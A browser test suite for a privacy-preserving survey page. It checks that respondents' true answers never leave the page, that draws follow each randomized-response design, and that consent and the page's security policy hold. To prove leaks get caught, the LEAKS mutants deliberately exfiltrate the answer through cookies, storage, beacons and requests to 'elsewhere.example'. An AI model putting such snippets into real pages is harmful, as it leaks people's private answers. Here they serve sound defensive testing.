"""The page of a survey in a real browser: the true answer stays inside, and what is sent follows the design's law.

Error rates: the coins are replayed, so a red test means a change. The chi-square tests are at level 1e-6 on 20,000
draws; the mutants, off by a fifth to either side, exceed it by far.
"""

from __future__ import annotations

import base64
import json
import re
import threading
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Final, cast

import pytest
import scipy

from reticent import survey
from reticent.entropy import Replayed
from reticent.survey import Design, Questionnaire, answers, form, form_words
from tests.support import survey_browser
from tests.support.survey_browser import Tab, let_out, tab

if TYPE_CHECKING:
    from playwright.sync_api import Browser

needs_browser = pytest.mark.skipif(
    survey_browser.excused(),
    reason="no browser is installed: the page of a survey was not tested (Debian: the package chromium)",
)
TRUTHS: Final = ("canary-7731-amber", "canary-9182-violet")
DRAWS: Final = 20_000
LEVEL: Final = 1e-6

COINS: Final = """
{
  let stream, at;
  window.__replay = (letters) => {
    stream = Uint8Array.from(atob(letters), (letter) => letter.charCodeAt(0));
    at = 0;
  };
  window.__replay('@');
  crypto.getRandomValues = (bytes) => {
    if (at + bytes.length > stream.length) throw new Error('the stream of coins is at its end');
    bytes.set(stream.subarray(at, at + bytes.length));
    at += bytes.length;
    return bytes;
  };
}
Math.random = () => { throw new Error('Math.random was asked'); };
"""


@dataclass(frozen=True)
class Visit:
    """A design, two truths, and coins with which both give one and the same answer."""

    design: Design
    truths: tuple[str, str]
    coins: bytes
    answer: str


ADDRESS: Final = "What is your address?"
NAMED: Final = Visit(survey.choice(ADDRESS, TRUTHS, epsilon=1, method="hadamard"), TRUTHS, bytes(400), "0")
VISITS: Final = (
    NAMED,
    Visit(survey.two_coins("Have you had an affair?"), ("yes", "no"), b"\x80" + bytes(400), "yes"),
    Visit(survey.mean("How much?", 0, 100, epsilon=1, method="duchi"), ("73.3171", "21.9043"), bytes(400), "1"),
)


# --- a server that keeps what it gets ---------------------------------------------------------------------------------


@dataclass
class Server:
    """Pages by path, and every request that came, headers and body included."""

    pages: dict[str, str] = field(default_factory=dict)
    log: list[str] = field(default_factory=list)
    bodies: list[str] = field(default_factory=list)
    address: str = ""
    status: int = 200
    allows: str = ""  # another site, from which it takes answers

    def put(self, text: str) -> str:
        self.pages["/page.html"] = text
        self.log.clear()
        self.bodies.clear()
        return f"{self.address}/page.html"


@contextmanager
def serving() -> Iterator[Server]:
    kept = Server()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            kept.log.append(f"{self.requestline}\n{self.headers}")
            text = kept.pages.get(self.path.partition("?")[0])
            self.send_response(404 if text is None else 200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write((text or "").encode())

        def end_headers(self) -> None:
            if kept.allows:
                self.send_header("Access-Control-Allow-Origin", kept.allows)
                self.send_header("Access-Control-Allow-Headers", "Content-Type")
            super().end_headers()

        def do_OPTIONS(self) -> None:
            self.send_response(204)
            self.end_headers()

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"])).decode()
            kept.log.append(f"{self.requestline}\n{self.headers}\n{body}")
            kept.bodies.append(body)
            self.send_response(kept.status)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Nothing: the test's own output is enough."""

    made = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    kept.address = f"http://127.0.0.1:{made.server_address[1]}"
    threading.Thread(target=made.serve_forever, daemon=True).start()
    try:
        yield kept
    finally:
        made.shutdown()
        made.server_close()


@pytest.fixture(scope="module")
def driven() -> Iterator[Browser]:
    with survey_browser.browser() as made:
        yield made


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    with serving() as made:
        yield made


def replayed(page: Tab, coins: bytes) -> None:
    """Have a page that is loaded next draw from these bytes."""
    page.before(COINS.replace("@", base64.b64encode(coins).decode()) + survey_browser.BASELINE)


def renewed(page: Tab, coins: bytes) -> None:
    """Have the page that is there draw from these bytes."""
    page.run(f"__replay('{base64.b64encode(coins).decode()}')")


def choose(page: Tab, visit: Visit, truth: str) -> None:
    """Answer as a person does, and draw."""
    if visit.design.among:
        place = visit.design.among.index(truth)
        page.run(f"document.querySelectorAll('[name=q0]')[{place}].click()")
    else:
        page.run("document.querySelector('[name=q0]').focus()")
        page.call("Input.insertText", text=truth)
    page.run("document.querySelector('#ask button[type=submit]').click()")


# --- 1. the truth stays inside ----------------------------------------------------------------------------------------


def visited(driven: Browser, server: Server, text: str, visit: Visit, truth: str, downloads: Path) -> dict[str, str]:
    """All that a visit lets out, with every way of sending used."""
    with tab(driven, downloads) as page:
        replayed(page, visit.coins)
        page.go(server.put(text))
        choose(page, visit, truth)
        for way, told in (("send", "received"), ("save", "Saved"), ("copy", "Paste|paste")):
            page.run(f"document.getElementById('{way}').click()")
            page.until(f"/{told}/.test(document.getElementById('status').textContent)")
        end = let_out(page, server=list(server.log))
    for file in sorted(downloads.iterdir()):
        end[f"file {file.name}"] = file.read_text("utf-8")
        file.unlink()
    return end


def differing(first: dict[str, str], second: dict[str, str]) -> set[str]:
    return {name for name in first.keys() | second.keys() if first.get(name) != second.get(name)}


def naming(said: dict[str, str], visit: Visit) -> set[str]:
    """Where a truth is named; yes and no are words of every page, and are left to ``differing``."""
    rare = [truth for truth in visit.truths if truth not in ("yes", "no")]
    return {name for name, text in said.items() if any(truth in text for truth in rare)}


def leaks(driven: Browser, server: Server, visit: Visit, folder: Path) -> set[str]:
    """The channels through which a visit with one truth can be told from a visit with the other.

    Both truths give the same answer with these coins, so whatever differs between the visits, and whatever names a
    truth once the draw is made, is a leak.
    """
    folder.mkdir(exist_ok=True)
    text = form.page(visit.design, f"{server.address}/answers", ask={})
    first, second = (visited(driven, server, text, visit, truth, folder) for truth in visit.truths)
    handed = [json.loads(body)["answers"][0]["answer"] for body in server.bodies if '"answers"' in body]
    assert handed[-1] == visit.answer  # a mutant sends other things, too, and some of them later
    return differing(first, second) | naming(first, visit) | naming(second, visit)


@pytest.mark.wide
@needs_browser
@pytest.mark.parametrize("visit", VISITS, ids=lambda visit: visit.design.method)
def test_nothing_that_leaves_or_stays_in_the_page_tells_the_truth(
    driven: Browser, server: Server, tmp_path: Path, visit: Visit
) -> None:
    assert leaks(driven, server, visit, tmp_path) == set()


@needs_browser
def test_what_is_shown_is_what_is_sent_saved_and_coded(driven: Browser, server: Server, tmp_path: Path) -> None:
    text = form.page(NAMED.design, f"{server.address}/answers", ask={})
    said = visited(driven, server, text, NAMED, TRUTHS[1], tmp_path)
    (body,) = server.bodies
    assert json.loads(body) == {
        "format": form.FORMAT,
        "survey": NAMED.design.code,
        "receipt": "00" * 12,
        "answers": [{"design": NAMED.design.code, "answer": "0"}],
        "open": {},
    }
    assert said[f"file answer-{'00' * 12}.json"] == body
    assert json.dumps(body)[1:-1] in said["seen"] or body in json.loads(said["markup"]).replace("&quot;", '"')


# Pages that leak: what they do with the truth, and the channel where that must be seen. Several at once, to save time.
LEAKS: Final = (
    {
        "document.body.dataset.kept = truths[0];": "markup",
        "console.debug({ truths });": "console",
        "localStorage.setItem('t', truths[0]);": "storage",
        "history.replaceState({ t: truths[0] }, '');": "place",
        "window.last = truths[0];": "globals",
        "fetch(SURVEY.post, { method: 'POST', headers: { 'X-T': truths[0] }, body: '{}' }).catch(() => 0);": "requests",
        "document.cookie = 't=' + truths[0];": "cookies",
    },
    {
        "document.body.append(document.createComment(truths[0]));": "markup",
        "console.info(form.elements.q0[truths[0]].closest('label').textContent);": "console",
        "sessionStorage.setItem('t', truths[0]);": "storage",
        "document.title += truths[0];": "place",
        "navigator.sendBeacon(SURVEY.post, truths[0]);": "server",
    },
    {
        "document.querySelector('footer').append(truths[0]);": "seen",
        "new Image().src = 'https://elsewhere.example/' + truths[0];": "console",
        "indexedDB.open('t' + truths[0]);": "storage",
        "location.hash = truths[0];": "windows",
    },
    {
        "form.elements.q0[truths[0]].setAttribute('checked', ''); document.body.append(form.cloneNode(1));": "markup",
        "fetch('https://elsewhere.example/' + truths[0]).catch(() => 0);": "console",
        "window.name = truths[0];": "place",
    },
)
SLIPS: Final = (
    ("  form.reset();\n  form.remove();\n", "", "controls"),
    ("receipt: receipt(),", "receipt: receipt().slice(1) + window.was,", "server"),
    ('"answer-" +', '"answer-" + window.was +', "downloads"),
)


def mutated(monkeypatch: pytest.MonkeyPatch, change: Callable[[str], str]) -> None:
    """Have the page made with another script; its hash in the policy follows, so that the mutant runs."""
    text = form._source_code()
    made = change(text)
    assert made != text
    monkeypatch.setattr(form, "_source_code", lambda: made)


MARK: Final = "  const answers = SURVEY.questions.map((question, index) => ({\n"


@pytest.mark.wide
@needs_browser
@pytest.mark.parametrize("kept", LEAKS, ids=lambda kept: " ".join(sorted(kept.values())))
def test_a_page_that_leaks_is_caught(
    driven: Browser, server: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kept: dict[str, str]
) -> None:
    mutated(monkeypatch, lambda text: text.replace(MARK, "".join(f"  {line}\n" for line in kept) + MARK))
    assert set(kept.values()) - leaks(driven, server, NAMED, tmp_path) == set()


@pytest.mark.wide
@needs_browser
@pytest.mark.parametrize(("old", "new", "channel"), SLIPS, ids=lambda text: text.strip()[:12])
def test_a_page_that_forgets_to_forget_is_caught(
    driven: Browser,
    server: Server,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    old: str,
    new: str,
    channel: str,
) -> None:
    mutated(monkeypatch, lambda text: text.replace(old, new).replace(MARK, f"  window.was = truths[0];\n{MARK}"))
    assert channel in leaks(driven, server, NAMED, tmp_path)


# --- 2. the law -------------------------------------------------------------------------------------------------------


QUESTION: Final = "What is it?"
THREE: Final = ("a", "b", "c")
LAWS: Final = (
    (survey.two_coins("1?"), "no", "truth"),
    (survey.forced("2?", truth="2/3", yes="1/5"), "yes", "truth"),
    (survey.warner("3?", epsilon=1), "yes", "truth"),
    (survey.one_sided("4?", truth="1/2"), "no", "truth"),
    (survey.choice("5?", THREE, epsilon=1, method="kary"), "b", "keep"),
    (survey.choice("6?", THREE, epsilon=1, method="unary"), "b", "hit"),
    (survey.choice("7?", THREE, epsilon=1, method="optimised_unary"), "c", "miss"),
    (survey.choice("8?", "abcdefg", epsilon=1, method="subset"), "d", "keep"),
    (survey.choice("9?", THREE, epsilon=1, method="hadamard"), "b", "keep"),
    (survey.choice("10?", "abcdefg", epsilon=1, method="hashing"), "g", "keep"),
    (survey.mean("11?", -10, 90, epsilon=1, method="duchi"), "81.7", "keep"),
    (survey.mean("12?", 0, 3, epsilon=2, method="piecewise"), "1.0001", "keep"),
)


@pytest.fixture(scope="module")
def every(driven: Browser, server: Server) -> Iterator[Tab]:
    """One page with a question of every design, and replayed coins."""
    with tab(driven) as page:
        replayed(page, b"")
        page.go(server.put(form.page(Questionnaire(tuple(design for design, _, _ in LAWS)), None, ask={})))
        yield page


def drawn(page: Tab, place: int, truth: str, change: dict[str, object] | None = None) -> Counter[str]:
    """What the page's own sampler gives in ``DRAWS`` draws, by answer; with some numbers of the recipe changed."""
    design = LAWS[place][0]
    asked = f"SURVEY.questions[{place}]"
    v = design.among.index(truth) if design.among else f"decimal({truth!r}, {asked}.recipe)"
    found = page.run(
        f"(() => {{ const asked = {{...{asked}, recipe: {{...{asked}.recipe, ...{json.dumps(change or {})}}}}};"
        f" const seen = {{}}, v = {v}; for (let i = 0; i < {DRAWS}; i += 1) {{"
        " const a = draw(asked, v); seen[a] = (seen[a] || 0) + 1; } return seen; })()"
    )
    return Counter(found)


def misfit(counts: Counter[str], law: dict[str, float]) -> float:
    """The chance of a chi-square at least as large, were ``law`` the law of the counts."""
    times = sum(counts.values())
    assert set(counts) <= {answer for answer, chance in law.items() if chance > 0}
    wanted = {answer: times * chance for answer, chance in law.items() if chance > 0}
    distance = sum((counts[answer] - expected) ** 2 / expected for answer, expected in wanted.items())
    return float(scipy.stats.chi2.sf(distance, len(wanted) - 1))


def stream(key: str, size: int) -> bytes:
    return Replayed(key).words(size // 8 + 1).tobytes()


def law_of(design: Design, truth: str) -> dict[str, float]:
    return {token: float(chance) for token, chance in design.distribution(truth).items()}


@pytest.mark.wide
@needs_browser
@pytest.mark.parametrize("place", range(len(LAWS)), ids=[design.method for design, _, _ in LAWS])
def test_the_law_of_the_browser_is_the_design_s_and_no_other(every: Tab, place: int) -> None:
    design, truth, number = LAWS[place]
    law = law_of(design, truth)
    top, bottom = (int(text) for text in cast("list[str]", design.recipe()[number]))  # a pair of whole numbers as text
    renewed(every, stream(f"law {design.method}", 1_000_000))
    assert misfit(drawn(every, place, truth), law) > LEVEL
    for fifths in (4, 6):  # the chance of the truth a fifth too small, a fifth too large
        renewed(every, stream(f"mutant {design.method}", 1_000_000))
        change: dict[str, object] = {number: [str(min(top * fifths, bottom * 5 - 1)), str(bottom * 5)]}
        assert misfit(drawn(every, place, truth, change), law) < LEVEL


def below(total: int, coins: bytes, times: int) -> list[int]:
    """The page's uniform numbers, written again: the same bytes must give the same numbers."""
    bits = (total - 1).bit_length()
    size, at = (bits + 7) // 8, 0
    found: list[int] = []
    while len(found) < times:
        number = int.from_bytes(coins[at : at + size], "big") >> (8 * size - bits)
        at += size
        if number < total:
            found.append(number)
    return found


@pytest.mark.wide
@needs_browser
@pytest.mark.parametrize("total", [2, 3, 7, 256, 257, 1000, 2**53 + 5, 3**50])
def test_the_browser_draws_bit_by_bit_as_it_should(every: Tab, total: int) -> None:
    coins = stream(f"tape {total}", 12_000)
    renewed(every, coins)
    found = every.run(f"Array.from({{ length: 300 }}, () => String(below({total}n)))")
    assert [int(text) for text in found] == below(total, coins, 300)


@pytest.mark.wide
@needs_browser
@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("73.5", [735, 10]),
        (" 5,25 ", [525, 100]),
        ("+7", [7, 1]),
        ("-9.99", [-999, 100]),
        ("90", [90, 1]),
        ("0.125", [125, 1000]),
        ("90.01", None),
        ("-10.5", None),
        ("1,000", None),
        ("1e1", None),
        ("ten", None),
        ("", None),
        ("0x10", None),
        ("--3", None),
    ],
)
def test_a_number_is_read_as_it_was_meant_or_not_at_all(every: Tab, text: str, number: list[int] | None) -> None:
    assert every.run(f"decimal({json.dumps(text)}, SURVEY.questions[10].recipe)?.map(Number) ?? null") == number


# --- 3. what a person does --------------------------------------------------------------------------------------------


@pytest.mark.wide
@needs_browser
def test_nothing_is_drawn_before_consent(driven: Browser, server: Server) -> None:
    words = form_words.checked({"consent": "I agree.", "need_consent": "Tick first."})
    with tab(driven) as page:
        page.go(server.put(form.page(survey.two_coins(QUESTION), None, ask={}, words=words)))
        page.run("document.querySelector('input[name=q0]').click()")
        page.run("document.querySelector('#ask button').click()")
        said = page.run("document.getElementById('problem').textContent")
        assert said == "Tick first. Nothing was drawn, and nothing was sent."
        assert page.run("document.getElementById('result').hidden")
        page.run("document.getElementById('consent').click()")
        page.run("document.querySelector('#ask button').click()")
        assert not page.run("document.getElementById('result').hidden")


@pytest.mark.wide
@needs_browser
def test_the_page_works_from_the_keyboard_and_draws_once(driven: Browser, server: Server) -> None:
    region = {"region": ["north", "south"]}
    with tab(driven) as page:
        page.go(server.put(form.page(survey.two_coins(QUESTION), f"{server.address}/answers", ask=region)))
        page.run("document.querySelector('#ask button').focus()")
        page.key("Enter")
        assert "Nothing was drawn" in page.run("document.getElementById('problem').textContent")
        assert page.run("document.activeElement.name") == "q0"  # where the answer is missing
        page.key("Space")
        for _ in range(2):  # to the open question, past it to the button
            page.key("Tab")
            page.key("Space") if page.run("document.activeElement.name") == "o0" else None
        assert page.run("document.activeElement.type") == "submit"
        page.key("Enter")
        assert page.run("document.activeElement.id") == "result-head"
        assert page.run("document.getElementById('ask')") is None  # no second draw
        assert page.run("document.getElementById('drawn').innerText").split("\n")[1] in ("yes", "no")
        page.key("Tab")
        page.key("Tab")
        assert page.run("document.activeElement.id") == "send"
        page.key("Enter")
        page.until("/received/.test(document.getElementById('status').textContent)")
        assert page.run("document.getElementById('send').disabled")
    assert json.loads(server.bodies[0])["open"] == {"region": "north"}


def left_and_back(page: Tab, address: str, elsewhere: str) -> int:
    """How many choices are still made on a page that somebody left undrawn, and came back to."""
    page.go(address)
    page.run("document.querySelectorAll('[name=q0]')[0].click()")
    page.go(elsewhere)
    page.back()
    return int(page.run("[...document.querySelectorAll('[name=q0]')].filter((one) => one.checked).length"))


@pytest.mark.wide
@needs_browser
def test_who_comes_back_to_the_page_finds_no_choice_made(driven: Browser, server: Server) -> None:
    text, elsewhere = form.page(survey.two_coins(QUESTION), None, ask={}), f"{server.address}/elsewhere"
    server.pages["/elsewhere"] = "<p>Elsewhere</p>"
    with tab(driven) as page:
        assert left_and_back(page, server.put(text), elsewhere) == 0
    kept = re.sub(r" autocomplete=\"off\"", "", text)
    kept = re.sub(r"(<script>).*(</script>)", r"\1\2", kept, flags=re.DOTALL).replace(" hidden>", ">")
    with tab(driven) as page:  # without the page's care the browser keeps the choice
        assert left_and_back(page, server.put(kept), elsewhere) == 1


@pytest.mark.wide
@needs_browser
def test_a_double_click_draws_once_and_sends_once(driven: Browser, server: Server) -> None:
    with tab(driven) as page:
        page.go(server.put(form.page(survey.two_coins(QUESTION), f"{server.address}/answers", ask={})))
        page.run("document.querySelectorAll('[name=q0]')[0].click()")
        page.run("{ const draw = document.querySelector('#ask button'); draw.click(); draw.click(); }")
        assert page.run("document.querySelectorAll('#drawn dd').length") == 1
        page.run("{ const send = document.getElementById('send'); send.click(); send.click(); }")
        page.until("/received/.test(document.getElementById('status').textContent)")
        assert len(server.bodies) == 1


@pytest.mark.wide
@needs_browser
def test_a_failed_sending_says_so_and_repeats_the_same_answer(driven: Browser, server: Server) -> None:
    with tab(driven) as page:
        page.go(server.put(form.page(survey.two_coins(QUESTION), f"{server.address}/answers", ask={})))
        server.status = 500
        page.run("document.querySelector('[name=q0]').click(); document.querySelector('#ask button').click()")
        page.run("document.getElementById('send').click()")
        page.until("/was not received/.test(document.getElementById('status').textContent)")
        server.status = 200
        page.run("document.getElementById('send').click()")
        page.until("/was received/.test(document.getElementById('status').textContent)")
    first, second = server.bodies
    assert first == second


@pytest.mark.wide
@needs_browser
def test_a_page_from_a_file_needs_nothing_but_itself(driven: Browser, tmp_path: Path) -> None:
    path = form.form(survey.two_coins(QUESTION), tmp_path / "page.html")
    with tab(driven) as page:
        page.before(survey_browser.BASELINE)
        page.go(path.as_uri())
        page.run("document.querySelector('[name=q0]').click(); document.querySelector('#ask button').click()")
        page.run("document.getElementById('copy').click()")
        page.until("document.getElementById('code').value !== ''")
        said = let_out(page)
        sent = json.loads(page.run("document.getElementById('text').textContent"))
        coded = page.run("document.getElementById('code').value")
        wide = page.run("document.documentElement.scrollWidth <= innerWidth")
    assert wide
    assert said["console"] == "[]"
    assert {request["request"]["url"].partition(":")[0] for request in json.loads(said["requests"])} <= {"file", "data"}
    assert answers.decoded(coded) == sent


@pytest.mark.wide
@needs_browser
def test_a_browser_without_fair_coins_is_not_asked(driven: Browser, server: Server) -> None:
    for broken in ("delete window.BigInt", "Object.defineProperty(window, 'crypto', { value: {} })"):
        with tab(driven) as page:
            page.before(broken)
            page.go(server.put(form.page(survey.two_coins(QUESTION), None, ask={})))
            seen = page.run("document.body.innerText")
            assert "it does not ask" in seen
            assert "Draw my answer" not in seen
    with tab(driven) as page:
        page.go(server.put(form.page(survey.two_coins(QUESTION), None, ask={})))
        seen = page.run("document.body.innerText")
        assert "it does not ask" not in seen
        assert "Draw my answer" in seen


@pytest.mark.wide
@needs_browser
def test_an_answer_goes_to_another_site_only_where_that_site_takes_it(driven: Browser, server: Server) -> None:
    with serving() as other, tab(driven) as page:
        page.go(server.put(form.page(survey.two_coins(QUESTION), f"{other.address}/answers", ask={})))
        page.run("document.querySelector('[name=q0]').click(); document.querySelector('#ask button').click()")
        page.run("document.getElementById('send').click()")
        page.until("/was not received/.test(document.getElementById('status').textContent)")
        assert other.bodies == []
        other.allows = server.address
        page.run("document.getElementById('send').click()")
        page.until("/was received/.test(document.getElementById('status').textContent)")
        (body,) = other.bodies
        headers = other.log[-1]
    assert json.loads(body)["survey"] == survey.two_coins(QUESTION).code
    assert "Cookie" not in headers
    assert "Referer" not in headers


@pytest.mark.wide
@needs_browser
def test_the_policy_of_the_page_lets_nothing_else_out_or_in(driven: Browser, server: Server) -> None:
    with tab(driven) as page:
        page.go(server.put(form.page(survey.two_coins(QUESTION), None, ask={})))
        for way in (f"fetch('{server.address}/out')", "fetch('https://elsewhere.example/')"):
            assert page.run(f"{way}.then(() => 'sent', () => 'refused')") == "refused"
        added = "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s);"
        page.run(f"{{ {added} }}")
        assert page.run("typeof window.ran") == "undefined"
        assert page.run(f"navigator.sendBeacon('{server.address}/out', 'x') && 1") is not None
    assert [line for line in server.log if "/out" in line] == []


@pytest.mark.wide
def test_the_script_knows_no_other_chance_and_no_float() -> None:
    script = form._source_code()
    code = "\n".join(line.partition("//")[0] for line in script.splitlines())
    assert [
        word
        for word in ("Math.", "parseFloat", "localStorage", "sessionStorage", "indexedDB", "cookie")
        if word in code
    ] == []
